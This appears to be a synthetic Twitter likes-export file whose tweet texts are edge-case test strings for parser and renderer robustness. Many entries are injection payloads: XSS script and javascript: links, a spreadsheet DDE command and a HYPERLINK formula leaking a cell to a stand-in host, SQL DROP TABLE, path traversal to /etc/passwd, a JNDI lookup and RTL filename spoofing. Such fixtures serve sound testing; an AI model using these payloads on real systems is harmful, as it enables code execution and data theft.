window.YTD.like.part0 = [
  {
    "like" : {
      "tweetId" : "1741610183686233180",
      "fullText" : "<script>alert('harbour')</script>",
      "expandedUrl" : "https://twitter.com/i/web/status/1741610183686233180"
    }
  },
  {
    "like" : {
      "tweetId" : "1741625283183098528",
      "fullText" : "</script><img src=x onerror=alert(1)>",
      "expandedUrl" : "https://twitter.com/i/web/status/1741625283183098528"
    }
  },
  {
    "like" : {
      "tweetId" : "1741640382676276486",
      "fullText" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
      "expandedUrl" : "https://twitter.com/i/web/status/1741640382676276486"
    }
  },
  {
    "like" : {
      "tweetId" : "1741655482170358017",
      "fullText" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
      "expandedUrl" : "https://twitter.com/i/web/status/1741655482170358017"
    }
  },
  {
    "like" : {
      "tweetId" : "1741670581666306381",
      "fullText" : "+1+cmd|' /C calc'!A0",
      "expandedUrl" : "https://twitter.com/i/web/status/1741670581666306381"
    }
  },
  {
    "like" : {
      "tweetId" : "1741685681161065475",
      "fullText" : "-1+2",
      "expandedUrl" : "https://twitter.com/i/web/status/1741685681161065475"
    }
  },
  {
    "like" : {
      "tweetId" : "1741700780652788229",
      "fullText" : "@SUM(A1:A9)",
      "expandedUrl" : "https://twitter.com/i/web/status/1741700780652788229"
    }
  },
  {
    "like" : {
      "tweetId" : "1741715880149003793",
      "fullText" : "\t=1+1",
      "expandedUrl" : "https://twitter.com/i/web/status/1741715880149003793"
    }
  },
  {
    "like" : {
      "tweetId" : "1741730979643261728",
      "fullText" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
      "expandedUrl" : "https://twitter.com/i/web/status/1741730979643261728"
    }
  },
  {
    "like" : {
      "tweetId" : "1741746079135355234",
      "fullText" : "31m and \b\b",
      "expandedUrl" : "https://twitter.com/i/web/status/1741746079135355234"
    }
  },
  {
    "like" : {
      "tweetId" : "1741761178630920422",
      "fullText" : "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
      "expandedUrl" : "https://twitter.com/i/web/status/1741761178630920422"
    }
  },
  {
    "like" : {
      "tweetId" : "1741776278124665282",
      "fullText" : "‮gnp.exe‬ ⁦isolate⁩ ‏RTL",
      "expandedUrl" : "https://twitter.com/i/web/status/1741776278124665282"
    }
  },
  {
    "like" : {
      "tweetId" : "1741791377621443519",
      "fullText" : "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
      "expandedUrl" : "https://twitter.com/i/web/status/1741791377621443519"
    }
  },
  {
    "like" : {
      "tweetId" : "1741806477116181739",
      "fullText" : "nul \u0000 inside",
      "expandedUrl" : "https://twitter.com/i/web/status/1741806477116181739"
    }
  },
  {
    "like" : {
      "tweetId" : "1741821576607025580",
      "fullText" : "'; DROP TABLE posts; --",
      "expandedUrl" : "https://twitter.com/i/web/status/1741821576607025580"
    }
  },
  {
    "like" : {
      "tweetId" : "1741836676104479812",
      "fullText" : "quote \" double \"\" single ' back ` slash \\",
      "expandedUrl" : "https://twitter.com/i/web/status/1741836676104479812"
    }
  },
  {
    "like" : {
      "tweetId" : "1741851775599314586",
      "fullText" : "../../../../etc/passwd",
      "expandedUrl" : "https://twitter.com/i/web/status/1741851775599314586"
    }
  },
  {
    "like" : {
      "tweetId" : "1741866875091144240",
      "fullText" : "C:\\Windows\\win.ini",
      "expandedUrl" : "https://twitter.com/i/web/status/1741866875091144240"
    }
  },
  {
    "like" : {
      "tweetId" : "1741881974588108113",
      "fullText" : "CON.txt",
      "expandedUrl" : "https://twitter.com/i/web/status/1741881974588108113"
    }
  },
  {
    "like" : {
      "tweetId" : "1741897074079963542",
      "fullText" : "NaN",
      "expandedUrl" : "https://twitter.com/i/web/status/1741897074079963542"
    }
  },
  {
    "like" : {
      "tweetId" : "1741912173573857971",
      "fullText" : "NULL",
      "expandedUrl" : "https://twitter.com/i/web/status/1741912173573857971"
    }
  },
  {
    "like" : {
      "tweetId" : "1741927273069121242",
      "fullText" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
      "expandedUrl" : "https://twitter.com/i/web/status/1741927273069121242"
    }
  },
  {
    "like" : {
      "tweetId" : "1741942372561993643",
      "fullText" : "line one\nline two\r\nline three line four",
      "expandedUrl" : "https://twitter.com/i/web/status/1741942372561993643"
    }
  },
  {
    "like" : {
      "tweetId" : "1741957472058349020",
      "fullText" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
      "expandedUrl" : "https://twitter.com/i/web/status/1741957472058349020"
    }
  },
  {
    "like" : {
      "tweetId" : "1741972571551882304",
      "fullText" : "﻿bom � ￾ ​",
      "expandedUrl" : "https://twitter.com/i/web/status/1741972571551882304"
    }
  },
  {
    "like" : {
      "tweetId" : "1741987671047355401",
      "fullText" : "العربية עברית 日本語 ไทย हिन्दी",
      "expandedUrl" : "https://twitter.com/i/web/status/1741987671047355401"
    }
  },
  {
    "like" : {
      "tweetId" : "1742002770539646751",
      "fullText" : "[link](javascript:alert(1)) ![](https://example.org/x.png)",
      "expandedUrl" : "https://twitter.com/i/web/status/1742002770539646751"
    }
  },
  {
    "like" : {
      "tweetId" : "1742017870037795756",
      "fullText" : "javascript:alert(document.title)",
      "expandedUrl" : "https://twitter.com/i/web/status/1742017870037795756"
    }
  },
  {
    "like" : {
      "tweetId" : "1742032969530860557",
      "fullText" : "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
      "expandedUrl" : "https://twitter.com/i/web/status/1742032969530860557"
    }
  },
  {
    "like" : {
      "tweetId" : "1742048069023303136",
      "fullText" : "",
      "expandedUrl" : "https://twitter.com/i/web/status/1742048069023303136"
    }
  },
  {
    "like" : {
      "tweetId" : "1742063168519060448",
      "fullText" : " ",
      "expandedUrl" : "https://twitter.com/i/web/status/1742063168519060448"
    }
  }
]